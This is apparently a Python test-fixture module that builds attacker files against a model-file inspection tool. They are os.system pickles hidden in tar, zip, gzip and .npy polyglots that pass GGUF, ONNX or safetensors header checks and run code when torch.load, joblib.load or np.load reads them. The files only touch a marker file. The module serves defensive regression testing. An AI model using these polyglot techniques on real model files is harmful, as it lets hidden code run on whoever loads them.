"""Files an attacker built against `prov card` (issue 16's third attack round): each is loaded by some loader
-- torch.load, joblib.load, np.load, pickle.load with another encoding -- into an ``os.system`` call, and each
was once inspected as safe. Kept as makers so the tests write the attacker's own bytes."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path


class RunsCode:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        import os

        return (os.system, (f"touch {self.marker}",))


def tar_under_a_code_free_header(first_name_field: bytes, marker: Path) -> bytes:
    """A legacy torch tar checkpoint (its 'storages' member an os.system pickle) whose first header block's
    name field is made to pass a GGUF, ONNX or safetensors header check."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("PLACEHOLDER", b"\0" * 64), ("storages", pickle.dumps(RunsCode(marker), protocol=2))):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            t.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    raw[0:100] = first_name_field.ljust(100, b"\0")[:100]
    raw[148:156] = b"        "
    raw[148:156] = b"%06o\0 " % sum(raw[0:512])
    return bytes(raw)


CODE_FREE_TAR_NAMES = {
    "model.gguf": b"GGUF\x03\0\0\0",  # magic and version 3
    "model.onnx": b"\x08\x07\x12onnx",  # ir_version 7, then a ModelProto tag
    "model.safetensors": b" \0\0\0\0\0\0\0" + b"{}" + b" " * 30,  # header length 32, a JSON object
}


def safetensors_that_is_gzip(command: str) -> bytes:
    """A .safetensors whose header length and JSON object are also a gzip stream's header and stored deflate
    blocks: joblib.load decompresses it into a pickle that runs ``command``."""
    payload = b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."
    length = int.from_bytes(bytes([0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0]), "little")
    end = 8 + length
    allowed = sorted(lo | (hi << 8) for lo in range(0x20, 0x3E) if lo != 0x22 for hi in range(0x40, 0x7F) if hi != 0x5C)

    def block(data: bytes, final: bool = False) -> bytes:
        return (b"\x21" if final else b"\x20") + struct.pack("<HH", len(data), len(data) ^ 0xFFFF) + data

    f = bytearray(bytes([0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0]) + b'{"')
    raw = bytearray()
    first = b"V" + b"k" * 100 + b'":"'
    first += b"a" * (allowed[0] - len(first))
    f += block(first)
    raw += first
    tail = b"\n0" + payload
    while True:
        pos = len(f)
        k = end - 2 - (pos + 5)
        fits = k >= 0 and next((p for p in range(20000) if k + 2 + p * 2 + len(tail) in allowed), None)
        if k >= 0 and fits is not None:
            data = b"a" * k + b'"}' + b"\n0" + b"N0" * fits + payload
            f += block(data)
            raw += data
            break
        room = end - 2 - pos - 5
        n = next(x for x in reversed(allowed) if x <= room - 5 - 40000) if room > allowed[-1] + 45000 else allowed[0]
        f += block(b"a" * n)
        raw += b"a" * n
    f += block(b"", final=True)
    f += struct.pack("<II", zlib.crc32(raw) & 0xFFFFFFFF, len(raw) & 0xFFFFFFFF)
    return bytes(f)


def non_ascii_string_first(command: str) -> bytes:
    """A protocol-0 pickle whose first opcode is a STRING pickle.load (ASCII) cannot decode: it stops there,
    torch.load (UTF-8) and np.load(encoding="latin1") read on into the call."""
    return b"S'\xc3\xa9'\n0cos\nsystem\n(S'" + command.encode() + b"'\ntR."


def zip_with_an_unnamed_object_npy(marker: Path) -> bytes:
    """A zip whose one member, named without .npy, is an object .npy: np.load's NpzFile unpickles it."""
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = RunsCode(marker)
    npy = io.BytesIO()
    np.save(npy, array, allow_pickle=True)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("weights", npy.getvalue())
    return out.getvalue()


def zip_with_names_python_cannot_decode(marker: Path) -> bytes:
    """A torch-style zip whose names carry the UTF-8 flag but are not UTF-8: Python's zipfile refuses it,
    torch's reader (miniz) does not decode names."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archivX/data.pkl", pickle.dumps(RunsCode(marker), protocol=2))
        z.writestr("archivX/version", b"3\n")
    raw = bytearray(buf.getvalue().replace(b"archivX", b"archiv\xff"))
    for signature, flag_at in ((b"PK\x03\x04", 7), (b"PK\x01\x02", 9)):
        i = 0
        while (j := raw.find(signature, i)) >= 0:
            raw[j + flag_at] |= 0x08
            i = j + 4
    return bytes(raw)


# --- round 4: polyglots, one file two readers -------------------------------------------------------------


def pickle_os_system(marker: Path) -> bytes:
    command = f"touch {marker}".encode()
    return b"\x80\x02cposix\nsystem\nq\x00X" + len(command).to_bytes(4, "little") + command + b"\x85R."


def tar_whose_first_name_is(prefix: bytes, marker: Path) -> bytes:
    """A legacy torch tar ('storages': an os.system pickle) whose first 100 bytes -- the first member's name
    field -- are ``prefix``: a clean torch legacy pickle sequence, an xz-compressed joblib, an .npy header."""
    assert len(prefix) <= 100
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in (("x" * 99, b"pad"), ("storages", pickle_os_system(marker))):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            t.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    raw[0:100] = prefix.ljust(100, b"\0")
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[0:512])
    return bytes(raw)


def torch_legacy_prefix() -> bytes:
    magic = 0x1950A86A20F9469CFC6C
    parts = (magic, 1001, {"protocol_version": 1001, "little_endian": True}, {"w": 1}, [])
    return b"".join(pickle.dumps(x, protocol=2) for x in parts)


def xz_joblib_prefix() -> bytes:
    import lzma

    return lzma.compress(pickle.dumps({"coef": [1.0, 2.0]}, protocol=4), format=lzma.FORMAT_XZ, check=lzma.CHECK_NONE)


def numeric_npy_prefix() -> bytes:
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (0,), }"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header


def zip_of(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


def object_npy(marker: Path) -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = RunsCode(marker)
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


def numeric_npy() -> bytes:
    import numpy as np

    out = io.BytesIO()
    np.save(out, np.arange(4.0))
    return out.getvalue()
